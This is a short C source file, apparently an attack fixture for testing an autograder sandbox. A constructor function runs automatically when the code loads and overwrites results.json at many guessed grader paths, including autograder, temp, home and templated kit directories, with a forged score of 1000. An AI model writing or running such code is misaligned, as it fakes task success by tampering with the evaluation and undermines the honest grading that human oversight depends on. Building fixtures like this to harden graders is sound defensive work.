/* (a) Write a results.json with score 1000 wherever the grader's might be. */
#include <glob.h>
#include <stdio.h>
#include <stdlib.h>

static void attack_write(const char *path)
{
    FILE *f = fopen(path, "w");
    if (f) {
        fputs("{\"score\": 1000, \"tests\": []}\n", f);
        fclose(f);
        fprintf(stderr, "ATTACK-A wrote %s\n", path);
    }
}

__attribute__((constructor)) static void attack(void)
{
    const char *paths[] = {
        "/autograder/results/results.json", "@RESULTS@", "../out/results.json",
        "/kit/../out/results.json", "/out/results.json", "/tmp/results.json",
        "@KIT@/results.json", "@KIT@/CANARY", NULL,
    };
    for (int i = 0; paths[i]; i++)
        attack_write(paths[i]);
    const char *home = getenv("HOME");
    if (home) {
        char p[4096];
        snprintf(p, sizeof p, "%s/results.json", home);
        attack_write(p);
    }
    glob_t g;
    if (glob("/tmp/grade-*/out", 0, NULL, &g) == 0) {
        for (size_t i = 0; i < g.gl_pathc; i++) {
            char p[4096];
            snprintf(p, sizeof p, "%s/results.json", g.gl_pathv[i]);
            attack_write(p);
        }
        globfree(&g);
    }
}
